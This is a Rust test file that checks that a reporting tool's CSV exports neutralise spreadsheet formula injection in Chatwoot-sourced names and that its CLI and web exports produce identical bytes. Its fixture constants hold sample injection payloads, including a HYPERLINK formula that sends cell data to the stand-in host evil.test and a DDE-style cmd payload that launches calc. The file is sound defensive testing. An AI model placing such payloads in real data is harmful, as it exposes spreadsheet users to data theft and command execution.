//! Every CSV geniai writes (the dashboard's downloads, the conversation export, `geniai report
//! --format csv`) goes through one encoder: names from Chatwoot that a spreadsheet would run as a
//! formula are neutralised, numbers stay numbers, and the CLI and the web write the same bytes.

use geniai::db::{self, TenantId};

use super::support::{self, TestDb};
use super::web::{ALPHA_USER, fixture, get, login};

/// Names an attacker can give things in Chatwoot, each a live formula if written raw.
const EVIL_INBOX: &str = r#"=HYPERLINK("http://evil.test/?x="&A1,"click")"#;
const EVIL_AGENT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const EVIL_TEAM: &str = "+1+2";
const EVIL_LABEL: &str = "-2+3";
const EVIL_CHANNEL: &str = "\tChannel::Api";
const EVIL_CONTACT_INBOX: &str = "\r=1+1";

const FROM: &str = "2026-03-01";
const TO: &str = "2026-04-01";

/// Alpha's inboxes, agent, team, labels and three March conversations, named as an attacker would.
async fn evil_tenant(db: &TestDb, tenant: TenantId) {
    let mut tx = db::tenant_tx(&db.pool, tenant).await.unwrap();
    for (inbox_id, name, channel) in
        [(1, EVIL_INBOX, EVIL_CHANNEL), (2, EVIL_CONTACT_INBOX, "Channel::Email")]
    {
        sqlx::query("INSERT INTO inboxes (tenant_id, inbox_id, account_id, name, channel_type) VALUES ($1, $2, 1, $3, $4)")
            .bind(tenant)
            .bind(inbox_id)
            .bind(name)
            .bind(channel)
            .execute(&mut *tx)
            .await
            .unwrap();
    }
    sqlx::query("INSERT INTO agents (tenant_id, user_id, name) VALUES ($1, 1, $2)")
        .bind(tenant)
        .bind(EVIL_AGENT)
        .execute(&mut *tx)
        .await
        .unwrap();
    sqlx::query("INSERT INTO teams (tenant_id, team_id, name) VALUES ($1, 1, $2)")
        .bind(tenant)
        .bind(EVIL_TEAM)
        .execute(&mut *tx)
        .await
        .unwrap();
    for (id, inbox, day, frt, resolution) in
        [(1, 1, 2, 90.25, 1800.0), (2, 1, 3, 300.0, 7200.0), (3, 2, 10, 45.5, 60.125)]
    {
        let created =
            chrono::NaiveDate::from_ymd_opt(2026, 3, day).unwrap().and_hms_opt(9, 30, 0).unwrap().and_utc();
        sqlx::query(
            "INSERT INTO conversations (tenant_id, conversation_id, account_id, inbox_id, display_id, status, assignee_id,
                                        team_id, labels, created_at, first_reply_created_at, source_updated_at, channel_type)
             VALUES ($1, $2, 1, $3, $2, 1, 1, 1, ARRAY[$4, 'plain'], $5, $5 + interval '10 minutes', now(),
                     CASE $3 WHEN 1 THEN $6::text ELSE 'Channel::Email' END)",
        )
        .bind(tenant)
        .bind(id)
        .bind(inbox)
        .bind(EVIL_LABEL)
        .bind(created)
        .bind(EVIL_CHANNEL)
        .execute(&mut *tx)
        .await
        .unwrap();
        sqlx::query(
            "INSERT INTO reporting_events (tenant_id, event_id, name, value, value_in_business_hours, inbox_id, user_id,
                                           conversation_id, created_at)
             VALUES ($1, $2, 'first_response', $4, $4, $3, 1, $2, $5 + interval '10 minutes'),
                    ($1, $2 + 1000, 'conversation_resolved', $6, $6, $3, 1, $2, $5 + interval '2 hours')",
        )
        .bind(tenant)
        .bind(id)
        .bind(inbox)
        .bind(frt)
        .bind(created)
        .bind(resolution)
        .execute(&mut *tx)
        .await
        .unwrap();
        sqlx::query(
            "INSERT INTO csat_responses (tenant_id, response_id, conversation_id, message_id, rating, created_at, updated_at)
             VALUES ($1, $2, $2, $2, 4, $3 + interval '3 hours', $3 + interval '3 hours')",
        )
        .bind(tenant)
        .bind(id)
        .bind(created)
        .execute(&mut *tx)
        .await
        .unwrap();
    }
    tx.commit().await.unwrap();
}

/// `geniai report KIND --tenant alpha --format csv` over March 2026 in UTC.
fn cli_csv(db: &TestDb, kind: &str) -> String {
    let out = support::geniai(db)
        .args([
            "report", kind, "--tenant", "alpha", "--from", FROM, "--to", TO, "--tz", "UTC", "--format", "csv",
        ])
        .assert()
        .success();
    String::from_utf8(out.get_output().stdout.clone()).unwrap()
}

fn web_path(kind: &str) -> String {
    format!("/dashboard/csv/{kind}?from={FROM}&to={TO}&tz=UTC")
}

/// The cells of a CSV text, header row included.
fn cells(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect()
}

/// Fails on any cell a spreadsheet would evaluate: one starting with `=`, `+`, `-`, `@`, tab or
/// carriage return that is not a plain number.
fn assert_inert(what: &str, text: &str) {
    for row in cells(text) {
        for cell in row {
            let dangerous = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(!dangerous || cell.parse::<f64>().is_ok(), "{what}: live cell {cell:?} in\n{text}");
        }
    }
}

/// The column `name` of a CSV text.
fn column(text: &str, name: &str) -> Vec<String> {
    let rows = cells(text);
    let at = rows[0].iter().position(|h| h == name).unwrap_or_else(|| panic!("no {name} in {text}"));
    rows[1..].iter().map(|row| row[at].clone()).collect()
}

fn neutralised(name: &str) -> String {
    format!("'{name}")
}

#[tokio::test]
async fn formula_names_from_chatwoot_are_inert_in_every_csv() {
    let f = fixture().await;
    evil_tenant(&f.db, f.alpha).await;
    let app = super::web::app(&f.db.pool);
    let session = login(&app, ALPHA_USER).await;

    for kind in ["inboxes", "agents", "teams", "labels", "channels", "conversations", "kpis", "daily"] {
        let web = get(&app, &web_path(kind), Some(&session)).await;
        assert_eq!(web.status, axum::http::StatusCode::OK, "{kind}: {}", web.body);
        assert_inert(&format!("web {kind}"), &web.body);
        assert_inert(&format!("cli {kind}"), &cli_csv(&f.db, kind));
    }

    for text in [get(&app, &web_path("inboxes"), Some(&session)).await.body, cli_csv(&f.db, "inboxes")] {
        assert_eq!(column(&text, "name"), [neutralised(EVIL_INBOX), neutralised(EVIL_CONTACT_INBOX)]);
        assert_eq!(column(&text, "conversations"), ["2", "1"], "numbers stay numbers");
    }
    for text in [get(&app, &web_path("agents"), Some(&session)).await.body, cli_csv(&f.db, "agents")] {
        assert!(column(&text, "name").contains(&neutralised(EVIL_AGENT)), "{text}");
    }
    for text in [get(&app, &web_path("teams"), Some(&session)).await.body, cli_csv(&f.db, "teams")] {
        assert!(column(&text, "name").contains(&neutralised(EVIL_TEAM)), "{text}");
    }
    for text in [get(&app, &web_path("labels"), Some(&session)).await.body, cli_csv(&f.db, "labels")] {
        let labels = column(&text, "label");
        assert!(labels.contains(&neutralised(EVIL_LABEL)), "{text}");
        assert!(labels.contains(&"plain".to_string()), "{text}");
    }
    for text in [get(&app, &web_path("channels"), Some(&session)).await.body, cli_csv(&f.db, "channels")] {
        assert!(column(&text, "channel_type").contains(&neutralised(EVIL_CHANNEL)), "{text}");
    }
    for text in
        [get(&app, &web_path("conversations"), Some(&session)).await.body, cli_csv(&f.db, "conversations")]
    {
        assert_eq!(column(&text, "inbox_name")[0], neutralised(EVIL_INBOX));
        assert_eq!(column(&text, "agent_name")[0], neutralised(EVIL_AGENT));
        assert_eq!(column(&text, "team_name")[0], neutralised(EVIL_TEAM));
        assert_eq!(column(&text, "channel_type")[0], neutralised(EVIL_CHANNEL));
        assert_eq!(column(&text, "labels")[0], neutralised(&format!("{EVIL_LABEL};plain")));
        assert_eq!(column(&text, "first_response_seconds"), ["90.25", "300", "45.5"]);
        assert_eq!(column(&text, "created_at")[0], "2026-03-02T09:30:00Z");
    }
}

#[tokio::test]
async fn the_cli_and_the_web_write_the_same_csv_bytes() {
    let f = fixture().await;
    evil_tenant(&f.db, f.alpha).await;
    let app = super::web::app(&f.db.pool);
    let session = login(&app, ALPHA_USER).await;
    for kind in [
        "kpis",
        "daily",
        "inboxes",
        "agents",
        "teams",
        "labels",
        "channels",
        "frt-distribution",
        "heatmap",
        "conversations",
    ] {
        let web = get(&app, &web_path(kind), Some(&session)).await;
        assert_eq!(web.status, axum::http::StatusCode::OK, "{kind}: {}", web.body);
        let cli = cli_csv(&f.db, kind);
        assert!(cli.lines().count() > 1, "{kind}: no rows in\n{cli}");
        assert_eq!(web.body, cli, "{kind}: the web's CSV (left) differs from the CLI's (right)");
    }
}
